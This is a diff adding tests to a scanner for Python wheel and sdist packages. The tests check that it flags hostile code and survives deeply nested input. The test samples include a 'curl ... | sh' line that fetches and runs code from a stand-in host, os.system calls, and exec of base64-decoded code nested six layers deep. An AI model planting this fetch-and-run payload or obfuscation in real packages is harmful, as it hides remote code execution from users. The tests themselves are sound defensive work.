@@ -114,3 +114,19 @@ describe('scan: wheel and sdist archive bounds', () => {
     await expect(scanPythonDistribution(join(work.dir, 'missing.whl'), 'wheel')).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
   });
 });
+
+describe('scan: hostile Python code', () => {
+  it('folds a doubling chain of 60 names once per name, and reads 5,000 nested brackets', async () => {
+    const chain = ['x0 = "ab"', ...Array.from({ length: 60 }, (_, i) => `x${i + 1} = x${i} + x${i}`), 'import os', 'os.system(x60)', "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"];
+    const r = await wheel([{ name: 'pkg/__init__.py', body: `${chain.join('\n')}\ny = ${'('.repeat(5000)}1${')'.repeat(5000)}\n` }]);
+    // Nothing folds past 1 MiB, and the file is still analysed to its end.
+    expect(rules(r)).toEqual(['high code-remote-eval pkg/__init__.py']);
+  });
+
+  it('stops at two levels of decoded code evaluating decoded code', async () => {
+    let code = "import os\nos.system('curl -s https://example.invalid/x | sh')";
+    for (let i = 0; i < 6; i++) code = `import base64\nexec(base64.b64decode('${Buffer.from(code).toString('base64')}'))`;
+    const r = await wheel([{ name: 'pkg/__init__.py', body: code }]);
+    expect(rules(r)).toEqual(['high code-remote-eval pkg/__init__.py']);
+  });
+});
